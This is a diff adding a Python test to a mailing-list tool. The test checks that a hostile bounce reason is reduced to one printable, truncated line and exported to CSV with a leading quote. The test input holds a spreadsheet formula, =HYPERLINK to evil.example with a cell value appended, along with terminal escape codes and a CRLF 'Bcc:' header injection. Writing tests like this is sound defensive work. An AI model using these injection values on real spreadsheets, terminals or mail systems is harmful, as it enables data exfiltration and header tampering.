@@ -129,3 +129,13 @@ def test_subscriber_commands(tmp_path: Path) -> None:
     assert out.read_bytes().startswith("\ufeffemail,status".encode())
     bad = run("subscribers", "add", "not an address", "--project", project)
     assert bad.exit_code == 1 and "error: 'not an address': An email address must have an @-sign." in bad.output
+
+
+def test_a_hostile_bounce_reason_is_one_short_line_and_exports_as_text(tmp_path: Path) -> None:
+    hostile = '=HYPERLINK("https://evil.example/?"&A1,"click")\x1b[2J\x1b]0;owned\x07\r\nBcc: x' + " 아주" * 400
+    with open_list(tmp_path / "list.sqlite") as subscribers:
+        row = subscribers.set_status("kim@example.org", "bounced", hostile)
+        exported = list(csv.reader(io.StringIO(subscribers.export().lstrip("\ufeff"))))
+    assert row.reason.startswith('=HYPERLINK("https://evil.example/?"&A1,"click") [2J ]0;owned Bcc: x 아주')
+    assert row.reason.isprintable() and len(row.reason) == 300 and row.reason.endswith("…")
+    assert exported[1][3] == "'" + row.reason  # a spreadsheet shows it, never evaluates it
